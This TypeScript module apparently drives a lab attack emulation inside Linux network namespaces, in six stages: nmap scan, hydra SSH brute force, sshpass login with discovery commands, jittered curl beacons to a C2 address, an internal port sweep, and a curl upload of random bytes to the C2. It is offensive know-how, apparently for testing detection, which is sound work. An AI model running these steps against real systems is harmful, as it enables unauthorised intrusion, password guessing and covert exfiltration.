import { randomBytes } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { run, sleep } from './procs.js';

/** Where the stages run: namespace names, addresses and tool paths. */
export interface StageContext {
  dir: string;
  ns: { attacker: string; victim: string };
  victim: string;
  c2: string;
  tools: Record<string, string>;
}

function inNs(ctx: StageContext, ns: string, tool: string, args: string[], timeoutMs: number, cwd?: string) {
  return run('ip', ['netns', 'exec', ns, ctx.tools[tool] ?? tool, ...args], { timeoutMs, cwd });
}

/** Stage 1: nmap SYN scan of the victim's top 1,000 TCP ports; returns the open ports nmap reports. */
export async function portScan(ctx: StageContext): Promise<number[]> {
  const xml = join(ctx.dir, 'nmap.xml');
  await inNs(ctx, ctx.ns.attacker, 'nmap', ['-sS', '-T4', '-n', '-Pn', '--top-ports', '1000', '--max-retries', '1', '-oX', xml, ctx.victim], 60_000);
  const open: number[] = [];
  for (const m of readFileSync(xml, 'utf8').matchAll(/<port protocol="tcp" portid="(\d+)"><state state="open"/g)) open.push(Number(m[1]));
  return open;
}

/** Stage 2: hydra brute force of the victim's sshd with four tasks, stopping at the first hit; returns the password. */
export async function bruteForce(ctx: StageContext, user: string, words: string[]): Promise<string> {
  const list = join(ctx.dir, 'wordlist.txt');
  const out = join(ctx.dir, 'hydra.json');
  writeFileSync(list, `${words.join('\n')}\n`);
  rmSync(out, { force: true }); // hydra appends to its output file
  await inNs(ctx, ctx.ns.attacker, 'hydra', ['-I', '-f', '-t', '4', '-w', '5', '-l', user, '-P', list, '-o', out, '-b', 'json', `ssh://${ctx.victim}:22`], 90_000, ctx.dir);
  const found = (JSON.parse(readFileSync(out, 'utf8')) as { results?: Array<{ login: string; password: string }> }).results ?? [];
  const hit = found.find((r) => r.login === user);
  if (!hit) throw new Error(`hydra went through ${words.length} passwords for ${user} without a hit`);
  return hit.password;
}

/** Stage 3: logs in over SSH with the found password (sshpass) and runs a few discovery commands; returns their output. */
export async function interactiveLogin(ctx: StageContext, user: string, password: string): Promise<string> {
  const { stdout } = await inNs(ctx, ctx.ns.attacker, 'sshpass', ['-p', password, 'ssh', '-F', '/dev/null',
    '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password',
    '-o', 'ConnectTimeout=5', '-o', 'LogLevel=ERROR', `${user}@${ctx.victim}`, 'id; uname -sr; ls /etc/ssh'], 30_000);
  return stdout;
}

/** Stage 4: `count` HTTP beacons from the victim to the C2, every `intervalMs` ± 10 %; returns when each was sent. */
export async function beacon(ctx: StageContext, count: number, intervalMs: number): Promise<Date[]> {
  const hostId = randomBytes(4).toString('hex');
  const sent: Date[] = [];
  for (let seq = 0; seq < count; seq++) {
    if (seq > 0) await sleep(intervalMs * (0.9 + Math.random() * 0.2));
    sent.push(new Date());
    const { stdout } = await inNs(ctx, ctx.ns.victim, 'curl', ['-s', '-m', '3', '-A', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
      '-o', '/dev/null', '-w', '%{http_code}', `http://${ctx.c2}/api/v1/checkin?id=${hostId}&seq=${seq}`], 10_000);
    if (stdout !== '200') throw new Error(`Beacon ${seq} to ${ctx.c2} got HTTP ${stdout || 'nothing'}`);
  }
  return sent;
}

/** Stage 5: TCP connect sweep from the victim over `targets` on `ports`; returns the open "address:port" pairs. */
export async function internalSweep(ctx: StageContext, targets: string[], ports: number[]): Promise<string[]> {
  const { stdout } = await inNs(ctx, ctx.ns.victim, 'python3', [fileURLToPath(new URL('sweep.py', import.meta.url)), ports.join(','), ...targets], 60_000);
  return JSON.parse(stdout) as string[];
}

/** Stage 6: one HTTP POST of `bytes` random bytes from the victim to the C2; returns how many the C2 says it got. */
export async function exfiltrate(ctx: StageContext, bytes: number): Promise<number> {
  const file = join(ctx.dir, 'upload.bin');
  writeFileSync(file, randomBytes(bytes));
  try {
    const { stdout } = await inNs(ctx, ctx.ns.victim, 'curl', ['-s', '-m', '60', '-H', 'Expect:', '-H', 'Content-Type: application/octet-stream',
      '--data-binary', `@${file}`, `http://${ctx.c2}/upload`], 70_000);
    return (JSON.parse(stdout) as { received: number }).received;
  } finally {
    rmSync(file, { force: true });
  }
}
